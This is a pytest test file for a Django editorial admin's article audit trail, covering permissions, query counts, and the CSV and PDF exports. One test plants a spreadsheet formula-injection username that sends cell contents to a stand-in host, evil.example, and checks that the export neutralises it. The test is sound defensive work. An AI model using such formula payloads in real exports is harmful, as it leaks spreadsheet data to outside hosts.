"""The article's audit trail in the admin: who may see it, its queries, its CSV and PDF."""

import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from pypdf import PdfReader
from simple_history.models import HistoricalChanges

from articles.models import Section
from editorial import workflow
from editorial.audit.anchors import anchor_checkpoint
from editorial.audit.export import FORMULA_STARTS, csv_safe, signature_rows, timeline_rows
from editorial.audit.timeline import article_timeline
from tests.factories import ArticleFactory, editor_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def approved(reviewer):
    """Approved by `reviewer` (assigned by an editor), through the real workflow."""
    article = ArticleFactory(submitted=True)
    (assignment,) = workflow.review_assign(
        article=article, reviewers=[reviewer], actor=editor_user()
    )
    workflow.review_decide(assignment=assignment, decision="approved", actor=reviewer.user)
    article.refresh_from_db()
    return article


def audit_url(article, export=None):
    if export:
        return reverse("admin:articles_article_audit_export", args=[article.pk, export])
    return reverse("admin:articles_article_audit", args=[article.pk])


@pytest.mark.parametrize("export", [None, "timeline.csv", "signatures.csv", "audit.pdf"])
def test_author_and_unassigned_reviewer_get_403(client, approved, other_reviewer, export):
    for user in (approved.author, other_reviewer.user):
        client.force_login(user)
        assert client.get(audit_url(approved, export)).status_code == 403


@pytest.mark.parametrize("export", [None, "timeline.csv", "signatures.csv", "audit.pdf"])
def test_editor_and_assigned_reviewer_get_the_audit_trail(
    client, approved, reviewer, editor, export
):
    for user in (editor, reviewer.user):
        client.force_login(user)
        assert client.get(audit_url(approved, export)).status_code == 200


def test_timeline_shows_who_did_what_and_why_in_order(client, approved, editor, reviewer):
    client.force_login(editor)
    page = client.get(audit_url(approved)).content.decode()
    order = [
        page.index("drafted"),
        page.index("submitted for review (round 1)"),
        page.index("assigned for review round 1"),
        page.index("decision: pending → approved"),
    ]
    assert order == sorted(order)
    assert reviewer.user.get_full_name() in page
    assert f"IMP-{approved.pk}-" in page


def test_audit_trail_button_only_for_those_who_may_open_it(client, approved, editor):
    client.force_login(editor)
    change = reverse("admin:articles_article_change", args=[approved.pk])
    assert audit_url(approved) in client.get(change).content.decode()
    client.force_login(approved.author)
    assert audit_url(approved) not in client.get(change).content.decode()


def test_unknown_export_is_a_404_not_a_500(client, approved, editor):
    client.force_login(editor)
    assert client.get(audit_url(approved, "audit.docx")).status_code == 404


def test_timeline_query_count_is_constant_in_the_number_of_entries(
    approved, django_assert_max_num_queries
):
    # one query per chained history model (article, section, citation, assignment, flag,
    # reader feedback), signatures,
    # one for the cited sources' history, one for their versions' history (issue 15), one for
    # the chain, one for reviewer names
    with django_assert_max_num_queries(11) as few:  # + reader feedback's history
        small = article_timeline(approved)
    for n in range(15):
        section = Section.objects.create(article=approved, heading=f"Extra {n}", position=n + 5)
        section.heading = f"Extra {n} (edited)"
        section.save()
    with django_assert_max_num_queries(len(few.captured_queries)):
        large = article_timeline(approved)
    assert len(large.entries) == len(small.entries) + 30


def test_timeline_csv_round_trips(client, approved, editor):
    client.force_login(editor)
    response = client.get(audit_url(approved, "timeline.csv"))
    assert response["Content-Type"] == "text/csv"
    parsed = list(csv.reader(io.StringIO(response.content.decode())))
    expected = [[csv_safe(c) for c in row] for row in timeline_rows(article_timeline(approved))]
    assert parsed == expected
    assert len(parsed) > 5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    client, editor, author, start
):
    # OWASP CSV injection: a user name is shown in the "who" column of the timeline
    author.username = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    author.first_name, author.last_name = "", ""
    author.save()
    article = ArticleFactory(author=author)
    client.force_login(editor)
    body = client.get(audit_url(article, "timeline.csv")).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert any(cell.startswith(f"'{start}HYPERLINK(") for cell in cells)


def test_signatures_csv_round_trips_with_a_unique_signoff_reference(client, approved, editor):
    client.force_login(editor)
    rows = list(
        csv.reader(io.StringIO(client.get(audit_url(approved, "signatures.csv")).content.decode()))
    )
    assert rows == signature_rows(article_timeline(approved))
    (header, signature) = rows
    assert header[:4] == ["sign-off reference", "printed name", "credentials", "meaning"]
    assert signature[0].startswith(f"IMP-{approved.pk}-")
    assert signature[2] == "MD"


def test_signoff_reference_is_stable_after_later_edits(approved, reviewer):
    before = article_timeline(approved).signatures[0].reference
    workflow.article_start_revision(article=approved, actor=approved.author)
    Section.objects.create(article=approved, heading="New evidence", position=9)
    assert article_timeline(approved).signatures[0].reference == before


def test_pdf_opens_and_carries_the_signoff_reference(client, approved, editor):
    client.force_login(editor)
    response = client.get(audit_url(approved, "audit.pdf"))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    reference = article_timeline(approved).signatures[0].reference
    assert reference in text
    assert "Approval signatures" in text
    assert "Not anchored yet" in text


def test_pdf_names_the_anchor_the_chain_was_checked_against(client, approved, editor):
    anchor = anchor_checkpoint()
    client.force_login(editor)
    response = client.get(audit_url(approved, "audit.pdf"))
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(page.extract_text() for page in reader.pages).replace("\n", " ")
    assert f"Checked against anchor {anchor['anchor_id']}" in text
    assert "matches the anchored hash" in text


def test_no_history_model_is_editable_in_the_admin():
    assert not [m for m in admin.site._registry if issubclass(m, HistoricalChanges)]


def test_revert_post_on_a_history_page_is_refused_and_changes_nothing(client, editor, approved):
    client.force_login(editor)
    first = approved.history.earliest()
    url = reverse("admin:articles_article_simple_history", args=[approved.pk, first.history_id])
    assert client.get(url).status_code == 200
    response = client.post(url, {"title": "Reverted title", "_change_history": "1"})
    assert response.status_code == 403
    approved.refresh_from_db()
    assert approved.title != "Reverted title"
    assert approved.status == "approved"


def test_audit_page_query_count_is_constant_in_the_number_of_entries(
    client, approved, editor, django_assert_max_num_queries
):
    client.force_login(editor)
    client.get(audit_url(approved))  # warm up: session, content types
    # session, user, article, groups (permission), 6 history models (article, section,
    # citation, assignment, flag, reader feedback, cited sources), signatures, chain, reviewer
    # names, 2 permission queries and
    # the board-member profile for the admin's navigation
    with django_assert_max_num_queries(18) as few:  # + versions of cited sources, feedback
        assert client.get(audit_url(approved)).status_code == 200
    for n in range(20):
        Section.objects.create(article=approved, heading=f"Extra {n}", position=n + 5)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(audit_url(approved))
    assert response.content.decode().count("Extra ") >= 20
